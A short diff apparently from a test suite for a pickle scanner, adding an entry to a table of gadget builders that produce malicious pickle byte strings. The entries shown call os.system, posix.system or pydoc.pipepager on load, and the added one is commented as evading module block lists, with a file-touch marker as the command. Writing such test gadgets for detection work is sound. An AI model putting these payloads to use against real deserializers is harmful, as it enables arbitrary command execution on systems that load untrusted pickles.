@@ -183,6 +183,8 @@ GADGETS: dict[str, Callable[[str], bytes]] = {
     # STACK_GLOBAL over names put in the memo in the wrong order, then read back
     "stack-global-memo": lambda c: b"\x8c\x06systemq\xf00\x8c\x02osq\xf10h\xf1h\xf0\x93(" + _u(_touch(c)) + b"tR",
     "functools.partial": lambda c: _call0(_call(_g("functools", "partial"), _g("posix", "system"), _u(_touch(c)))),
+    # issue 31 (trust declared): a function of a module no list names, which runs a shell command
+    "pydoc.pipepager": lambda c: _call(_g("pydoc", "pipepager"), _u(""), _u(_touch(c))),
 }
 
 
